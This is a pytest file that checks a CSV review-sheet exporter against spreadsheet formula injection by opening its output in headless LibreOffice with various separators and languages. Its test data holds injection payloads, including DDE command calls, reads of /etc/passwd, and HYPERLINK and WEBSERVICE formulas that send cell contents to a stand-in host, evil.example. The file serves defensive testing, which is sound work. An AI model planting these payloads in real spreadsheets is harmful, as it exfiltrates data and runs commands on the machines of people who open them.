"""The review sheet in LibreOffice itself: nothing runs, nothing changes, and it comes back.

LibreOffice opens CSV files here as it does at its worst: special numbers detected, formulas evaluated,
in several languages, with every separator that its dialog offers.
"""

from __future__ import annotations

import shutil
import subprocess
import xml.etree.ElementTree as ET
from collections.abc import Callable, Sequence
from pathlib import Path

import pytest

from pipelines.text import content_key
from pipelines.tools.sheet.format import COLUMNS, Sheet
from pipelines.verdicts.spreadsheet import unprotected
from tests.stages.test_write_review import GUESSED
from tests.tools import batch_of, said, understood

# Different ads after normalisation, as a corpus gives them.
FORMULAS = (
    "=1+1",
    "+1+2",
    "-1+3",
    "@SUM(A1:A9)",
    "\t=1+4",
    "\r=1+5",
    "\n=1+6",
    " =1+7",
    "{=1+8}",
    "=cmd|'/c calc'!A1",
    '=DDE("soffice";"/etc/passwd";"A1")',
    '=HYPERLINK("https://evil.example/?x="&A1;"Win")',
    '=WEBSERVICE("https://evil.example/")',
    "='file:///etc/passwd'#$Sheet1.A1",
    "＝1+9",
    "\ufeff=1+10",
)
# What becomes a cell of its own where a program separates otherwise.
INSIDE = (
    "x;=cmd|'/c calc'!A1",
    "x\t=cmd|'/c calc'!A3",
    "x\n=cmd|'/c calc'!A1\ny",
    "x\r\n=cmd|'/c calc'!A2",
    'say "hi";=1+1;"',
    "a, =1+1, b",
    ";=1+1",
)
WORDS = (
    "Ordinary words, with a comma",
    "- a list\n- of things\n+ more",
    'quoted "words"',
    "'an apostrophe",
    "\u202edesrever\u202c and \U0001f469\u200d\U0001f4bb",
    "line one\nline two\r\nline three\rline four",
    "two  blanks \u00a0 and more",
)
COMMA, SEMICOLON, TAB, ALL = "44", "59", "9", "44/59/9"
ENGLISH, GERMAN, JAPANESE = "1033", "1031", "1041"
_NS = "{{urn:oasis:names:tc:opendocument:xmlns:{}:1.0}}{}"
_ROW, _CELL = _NS.format("table", "table-row"), _NS.format("table", "table-cell")
_FORMULA = _NS.format("table", "formula")
_TYPE, _P = _NS.format("office", "value-type"), _NS.format("text", "p")
Convert = Callable[..., Path]


@pytest.fixture(scope="module")
def convert(tmp_path_factory: pytest.TempPathFactory) -> Convert:
    """Return a function that has LibreOffice open a file and save it as another."""
    program = shutil.which("soffice") or shutil.which("libreoffice")
    if program is None:
        pytest.fail(
            "LibreOffice is not installed: apt-get install --no-install-recommends "
            "libreoffice-calc-nogui"
        )
    profile = tmp_path_factory.mktemp("profile").as_uri()

    def run(source: Path, to: str, folder: Path, opened: str = "") -> Path:
        folder.mkdir(exist_ok=True)
        command = [program, f"-env:UserInstallation={profile}", "--headless"]
        command += [f"--infilter={opened}"] if opened else []
        command += ["--convert-to", to, "--outdir", str(folder), str(source)]
        done = subprocess.run(command, capture_output=True, text=True, timeout=120)
        made = folder / f"{source.stem}.{to.split(':')[0]}"
        assert made.exists(), f"LibreOffice made no {made.name}: {done.stdout}{done.stderr}"
        return made

    return run


def as_csv(separator: str, language: str = ENGLISH) -> str:
    # Separators, quotation mark, UTF-8, from line 1, no columns, language, quoted fields are text:
    # no, special numbers: yes, ..., formulas: yes.
    return f"Text - txt - csv (StarCalc):{separator},34,76,1,,{language},false,true,false,false,false,,true"


FLAT = "fods:OpenDocument Spreadsheet Flat XML"


def ads() -> list[tuple[str, str]]:
    """Return hostile ids with ordinary texts, and the other way around."""
    hostile = [*FORMULAS, *INSIDE, *GUESSED]
    found = [(f"ad-{n:05d}", text) for n, text in enumerate([*hostile, *WORDS])]
    # LibreOffice writes all line ends as \n, and an id counts to the letter.
    found += [(id, f"Ad number {n} of them") for n, id in enumerate(hostile) if "\r" not in id]
    assert len({content_key(text) for _, text in found}) == len(found)
    return found if len(found) % 2 == 0 else found[:-1]


def with_controls() -> list[tuple[str, str]]:
    """Return those and ads with what XML, and so a spreadsheet's file, lacks or discourages."""
    chars = [*range(9), 11, 12, *range(14, 32), *range(0x7F, 0xA0), 0xFFFE, 0xFFFF]
    found = [(f"control-{n}", f"A control {n} {chr(n)}[31m here") for n in chars]
    return [*ads(), *found, *((f"id{chr(n)}{n}", f"Its id has control {n}") for n in chars)]


def written(folder: Path, rows: Sequence[tuple[str, str]] = ()) -> Path:
    path = folder / "review.csv"
    path.write_bytes(Sheet().export(batch_of(list(rows) or ads()))["review.csv"])
    return path


def table(path: Path) -> list[list[ET.Element]]:
    """Return the cells of the one table in a flat file; a repeated cell stands once."""
    rows = [row.findall(_CELL) for row in ET.parse(path).iter(_ROW)]
    return [cells for cells in rows if any(cell.get(_TYPE) for cell in cells)]


def words(cell: ET.Element) -> str:
    """Return what a cell shows."""

    def part(element: ET.Element) -> str:
        name = element.tag.split("}")[1]
        count = int(element.get(_NS.format("text", "c"), "1"))
        own = {"s": " " * count, "tab": "\t", "line-break": "\n"}.get(name, element.text or "")
        return own + "".join(part(child) + (child.tail or "") for child in element)

    return "\n".join(part(paragraph) for paragraph in cell.findall(_P))


def lines_of(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")


@pytest.mark.parametrize("language", [ENGLISH, GERMAN, JAPANESE])
def test_every_cell_is_the_text_that_was_sent(
    convert: Convert, tmp_path: Path, language: str
) -> None:
    opened = convert(written(tmp_path), FLAT, tmp_path / "out", as_csv(COMMA, language))
    header, *body = table(opened)
    assert [words(cell) for cell in header] == list(COLUMNS)
    assert len(body) == len(ads())
    for cells, (id, text) in zip(body, ads(), strict=True):
        assert [cell.get(_TYPE) for cell in cells[:4]] == ["string"] * 4, (id, text)
        assert not any(cell.get(_FORMULA) for cell in cells), (id, text)
        for cell, sent in ((cells[2], id), (cells[3], text)):
            shown = words(cell)
            # As a person reads it, and as it is read back.
            assert lines_of(sent) in (lines_of(shown), lines_of(unprotected(shown)))


@pytest.mark.parametrize(
    ("separator", "language"), [(SEMICOLON, GERMAN), (TAB, ENGLISH), (ALL, ENGLISH)]
)
def test_no_formula_runs_however_it_is_opened(
    convert: Convert, tmp_path: Path, separator: str, language: str
) -> None:
    opened = convert(written(tmp_path), FLAT, tmp_path / "out", as_csv(separator, language))
    rows = table(opened)
    assert len(rows) >= len(ads())
    assert [cell.get(_FORMULA) for cells in rows for cell in cells if cell.get(_FORMULA)] == []


def filled(path: Path, labels: Sequence[str]) -> Path:
    """Write labels, a name and a comment into the empty cells of a flat file, as an expert would."""
    head, *rows = path.read_text("utf-8").split(
        '<table:table-cell table:number-columns-repeated="3"/>'
    )
    assert len(rows) == len(labels), "LibreOffice writes empty cells in another way"
    typed = '<table:table-cell office:value-type="string"><text:p>{}</text:p></table:table-cell>'
    done = path.with_name("filled.fods")
    with done.open("w", encoding="utf-8") as file:
        file.write(head)
        for row, label in zip(rows, labels, strict=True):
            file.write("".join(typed.format(value) for value in (label, "Anna", "=1+1")) + row)
    return done


def test_a_sheet_that_was_filled_in_comes_back(convert: Convert, tmp_path: Path) -> None:
    rows = with_controls()
    batch = batch_of(rows)
    labels = [("bait", "fine", "skip")[n % 3] for n in range(len(rows))]
    meaning = {"bait": "positive", "fine": "negative", "skip": "skip"}
    wanted = [(id, meaning[label], "anna") for (id, _), label in zip(rows, labels, strict=True)]
    opened = convert(written(tmp_path, rows), FLAT, tmp_path / "open", as_csv(COMMA))
    answers = filled(opened, labels)
    workbook = convert(answers, "xlsx", tmp_path / "excel")
    resolved = understood(Sheet().read(workbook.read_bytes(), workbook.name), batch)
    assert resolved.rejected == (), resolved.rejected[:3]
    assert said(resolved) == wanted
    utf_8, windows_1252, utf_16 = "76", "1", "65535"
    for place, source, separator, encoding in (
        ("comma", answers, COMMA, utf_8),
        ("semicolon", answers, SEMICOLON, utf_8),
        ("workbook", workbook, SEMICOLON, utf_8),
        ("8-bit", answers, SEMICOLON, windows_1252),
        ("16-bit", answers, TAB, utf_16),
    ):
        # "As shown", the quotation marks that are needed.
        saved = convert(
            source,
            f"csv:Text - txt - csv (StarCalc):{separator},34,{encoding},1,,0,false,true,false",
            tmp_path / place,
        )
        data = saved.read_bytes()
        assert (b"left;" in data) == (separator == SEMICOLON)
        assert (b"\0" in data) == (encoding == utf_16)
        resolved = understood(Sheet().read(data, saved.name), batch)
        assert resolved.rejected == (), (place, resolved.rejected[:3])
        assert said(resolved) == wanted, place
        assert {verdict.comment for verdict in resolved.verdicts} == {"=1+1"}
        # Saved and opened and saved once more: what it shows is the same.
        if place == "comma":
            again = convert(saved, FLAT, tmp_path / "again", as_csv(COMMA, GERMAN))
            assert [[words(cell) for cell in row[:4]] for row in table(again)] == [
                [words(cell) for cell in row[:4]] for row in table(opened)
            ]
